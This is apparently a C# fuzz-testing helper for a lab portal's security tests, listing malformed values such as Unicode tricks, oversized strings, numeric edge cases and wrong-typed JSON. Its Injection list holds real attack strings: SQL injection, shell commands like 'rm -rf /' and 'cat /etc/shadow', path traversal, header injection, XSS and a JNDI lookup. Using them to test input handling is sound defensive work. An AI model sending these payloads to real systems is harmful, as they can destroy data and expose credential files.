namespace Portal.Scenarios.Tests.Security;

/// <summary>
/// The malformed values the fuzz draws from. None of them is a valid name of anything in the lab (a host, user,
/// container, network) or a small positive id: every request built from them is malformed by construction, so a
/// fuzz case can never address a real object with valid values (the generator also drops any value that happens to
/// equal a real name).
/// </summary>
public static class FuzzValues
{
    /// <summary>What a field or parameter holds when the case is about another one: invalid for every field.</summary>
    public const string BaselineString = "fz:bad name";

    public static readonly string Huge = new('a', 10_000);

    public static readonly string Megabyte = new('x', 1024 * 1024);

    public static readonly string[] Unicode =
    [
        "\u202Egnp.exe\u202C",           // right-to-left override
        "مرحبا-שלום",                    // RTL scripts
        "🐳🔥💥👨‍👩‍👧",                    // emoji, a ZWJ sequence
        "a\u0000b",                      // NUL inside
        "\u0000",
        "\uFEFF\u200B\u2060",            // BOM, zero-width space, word joiner
        "e\u0301\u0301\u0301\u0301",     // stacked combining marks
        "ﬁ\u2126\u212B",                 // compatibility forms that normalise to ASCII-like text
        "Ａｄｍｉｎ",                        // full-width letters
        "\u001b[31mred\u001b[0m",        // terminal escapes
    ];

    public static readonly string[] Injection =
    [
        "'; DROP TABLE AspNetUsers; --",
        "\" OR \"1\"=\"1",
        "$(reboot)",
        "`id`",
        "; rm -rf / #",
        "| cat /etc/shadow",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "-j ACCEPT",
        "--privileged",
        "*filter\n-A INPUT -j ACCEPT\nCOMMIT",
        "%00",
        "%2e%2e%2f",
        "line1\nline2",
        "x\r\nSet-Cookie: pwn=1",
        "<script>alert(1)</script>",
        "{{7*7}}${7*7}",
        "${jndi:ldap://10.20.30.1/x}",
        "0.0.0.0/0",
        "\\u0000",
    ];

    /// <summary>Numbers as text (for path and query values): negative, zero, past 32 and 64 bits, not numbers at all.</summary>
    public static readonly string[] NumbersAsText =
    [
        "-1", "0", "-2147483649", "2147483648", "9223372036854775807", "9223372036854775808", "-9223372036854775809",
        "99999999999999999999999999999999", "1e309", "-0", "NaN", "Infinity", "0x10", "1.5", "1,5", "١٢٣",
    ];

    /// <summary>JSON number literals for bodies: the same ranges as raw JSON.</summary>
    public static readonly string[] NumbersAsJson =
    [
        "-1", "0", "-2147483649", "2147483648", "9223372036854775808", "-9223372036854775809", "1e309", "-1e309",
        "1.5", "-0.0", "1E2", "99999999999999999999999999999999",
    ];

    /// <summary>Text that does not bind to a boolean (a query's ?dryRun=...).</summary>
    public static readonly string[] NotBooleans = ["maybe", "2", "-1", "tru", "yes", "TRUE ", "null", "[]"];

    /// <summary>Every short text value (not the huge ones): path segments, query values, string fields.</summary>
    public static IEnumerable<string> ShortStrings => Unicode.Concat(Injection);

    /// <summary>JSON literals of the wrong type for a field of <paramref name="kind"/>.</summary>
    public static string[] WrongJsonTypes(ValueKind kind) => kind switch
    {
        ValueKind.String => ["12345", "-1", "true", "{}", "[]", "[\"a\"]", "{\"$type\":\"System.IO.FileInfo\"}"],
        ValueKind.Integer or ValueKind.Number => ["\"abc\"", "\"\"", "true", "{}", "[1]", "\"1e309\"", "\"12abc\""],
        ValueKind.Boolean => ["\"yes\"", "1", "0", "\"\"", "{}", "[true]", "\"truee\""],
        ValueKind.Object => ["\"x\"", "1", "true", "[]"],
        _ => ["\"x\"", "1", "true", "{}"],
    };

    /// <summary>A well-formed baseline literal for a field of <paramref name="kind"/> that no operation accepts as valid.</summary>
    public static string BaselineJson(ValueKind kind) => kind switch
    {
        ValueKind.String => "\"" + BaselineString + "\"",
        ValueKind.Integer or ValueKind.Number => "-1",
        ValueKind.Boolean => "true",
        ValueKind.Object => "{}",
        _ => "[]",
    };
}
